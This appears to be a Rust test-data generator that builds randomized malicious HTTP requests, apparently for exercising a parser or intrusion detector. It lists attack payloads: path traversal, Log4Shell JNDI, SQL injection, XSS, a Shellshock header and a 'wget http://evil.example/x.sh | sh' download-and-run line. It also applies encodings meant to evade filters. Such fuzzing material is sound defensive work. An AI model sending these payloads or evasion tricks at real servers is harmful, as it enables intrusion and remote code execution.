//! Attacks, in every encoding that evades: 2,040 bytes in the mean, with folds and duplicates.

use super::csic::PAYLOADS as PLAIN;
use super::random::Random;
use super::{ALPHANUMERIC, HEX, HOSTS, USER_AGENTS, join, percent_encoded};

/// Beside those of the shop's forms.
const MORE: &[&str] = &[
    "../../../../../../etc/shadow",
    "..\\..\\windows\\win.ini",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "&#x3c;script&#62;alert(1)&lt;/script&gt;",
    "admin'/**/OR/**/1=1#",
    "%00.jpg",
    "php://filter/convert.base64-encode/resource=index.php",
    "; wget http://evil.example/x.sh -O- | sh",
    "＜script＞alert(1)＜/script＞",
    "раypal.com",
    "javascript:alert(document.domain)",
];

fn payload(random: &mut Random) -> &'static str {
    random.choice(&[PLAIN, MORE].concat())
}

/// A payload in one of the encodings.
fn encoded_payload(random: &mut Random) -> String {
    let text = payload(random);
    match random.number(0, 6) {
        0 => text.bytes().map(|byte| format!("%{byte:02x}")).collect(),
        1 => text.bytes().map(|byte| format!("%25{byte:02X}")).collect(),
        2 => text.chars().map(|c| format!("%u{:04x}", u32::from(c))).collect(),
        3 => percent_encoded(text.as_bytes(), b"").replace("%2F", "%c0%af").replace('.', "%c0%ae"),
        4 => text.chars().map(full_width).collect(),
        5 => text
            .chars()
            .map(|c| {
                if random.chance(0.4) {
                    format!("&#x{:x};", u32::from(c))
                } else {
                    percent_encoded(c.to_string().as_bytes(), b"/")
                }
            })
            .collect(),
        _ => text.replace(' ', "+").replace('\0', "%00"),
    }
}

fn full_width(c: char) -> char {
    match c {
        ' ' => '+',
        '&' | '=' | '#' | '%' => c,
        '!'..='~' => char::from_u32(u32::from(c) + 0xFEE0).unwrap_or(c),
        _ => c,
    }
}

pub(super) fn request(random: &mut Random) -> Vec<u8> {
    let line_end = if random.chance(0.15) { "\n" } else { "\r\n" };
    let target = target(random);
    let hosts = [HOSTS, &["раypal.com", "10.0.0.1:80", "[::1]:8080"]].concat();
    let host = random.choice(&hosts);
    let target = if random.chance(0.1) { format!("http://other.example.com{target}") } else { target };
    let method = random.choice(&["GET", "GET", "POST", "get", "PROPFIND", "DEBUG"]);
    let mut versions = ["HTTP/1.1"; 10];
    versions[9] = "HTTP/1.0";
    let version = random.choice(&versions);
    let space = if random.chance(0.03) { "  " } else { " " };
    let mut lines = vec![format!("{method}{space}{target} {version}"), format!("Host: {host}")];
    headers(random, &mut lines);
    let mut body = String::new();
    if method == "POST" {
        let fields: Vec<String> = (0..random.count(1, 4))
            .map(|_| format!("{}={}", random.choice(&["a", "b", "c"]), encoded_payload(random)))
            .collect();
        body = fields.join("&");
        lines.push("Content-Type: application/x-www-form-urlencoded".to_owned());
        if random.chance(0.1) {
            lines.push("Transfer-Encoding: chunked".to_owned());
        }
        lines.push(format!("Content-Length: {}", body.len()));
        if random.chance(0.05) {
            lines.push("Content-Length: 0".to_owned());
        }
    }
    join(&lines, body.as_bytes(), line_end)
}

fn target(random: &mut Random) -> String {
    let attacked = format!("/{}", encoded_payload(random).replace(' ', "%20"));
    let path = random.choice(&[
        "/index.php",
        "/cgi-bin/test.cgi",
        "/a//b/./c/../../d",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/login.jsp;jsessionid=1",
        "/wp-admin/admin-ajax.php",
        &attacked,
    ]);
    let mut pairs = Vec::new();
    for _ in 0..random.count(1, 6) {
        let key = random.choice(&["id", "q", "file", "cmd", "user", "pass", "id", "x[]", "token", ""]);
        let mut value = encoded_payload(random);
        if random.chance(0.12) {
            value = value.repeat(random.count(4, 40));
        }
        pairs.push(if random.chance(0.07) { key.to_owned() } else { format!("{key}={value}") });
    }
    let target = format!("{path}?{}", pairs.join(random.choice(&["&", "&", "&", ";"])));
    if random.chance(0.04) { target } else { target.replace(' ', "%20") }
}

fn headers(random: &mut Random, lines: &mut Vec<String>) {
    let agent = random.choice(USER_AGENTS);
    let agent = random.choice(&[
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "() { :;}; /bin/bash -c 'id'",
        agent,
        "Mozilla/5.00 (Nikto/2.1.6)",
    ]);
    lines.push(format!("User-Agent: {agent}"));
    lines.push("Accept: */*".to_owned());
    if random.chance(0.3) {
        lines.push("X-Forwarded-For: 127.0.0.1".to_owned());
        lines.push(format!("X-Forwarded-For: 10.0.0.{}, 8.8.8.8", random.number(1, 254)));
    }
    if random.chance(0.25) {
        lines.push("X-Folded: first".to_owned());
        lines.push("\t second part".to_owned());
        lines.push(format!("   third {}", payload(random).replace('\0', "")));
    }
    if random.chance(0.1) {
        lines.push("Host: evil.example.com".to_owned());
    }
    if random.chance(0.1) {
        lines.push("X_Bad Name : v".to_owned());
    }
    if random.chance(0.15) {
        lines.push(format!("Referer: {}", payload(random).replace('\0', "\x01")));
    }
    if random.chance(0.2) {
        let session = random.string(HEX, 26);
        lines.push(format!("Cookie: PHPSESSID={session}; x={}", encoded_payload(random)));
    }
    if random.chance(0.1) {
        lines.push("Cookie: dup=1".to_owned());
    }
    if random.chance(0.2) {
        let length = random.count(1000, 4000);
        lines.push(format!("X-Long: {}", random.string(ALPHANUMERIC, length)));
    }
    if random.chance(0.15) {
        lines.push("Accept-Language:   en-us \t  ,  es ;q=0.5  ".to_owned());
    }
    if random.chance(0.2) {
        lines.push(format!("Authorization: Basic {}", random.string(ALPHANUMERIC, 24)));
    }
}
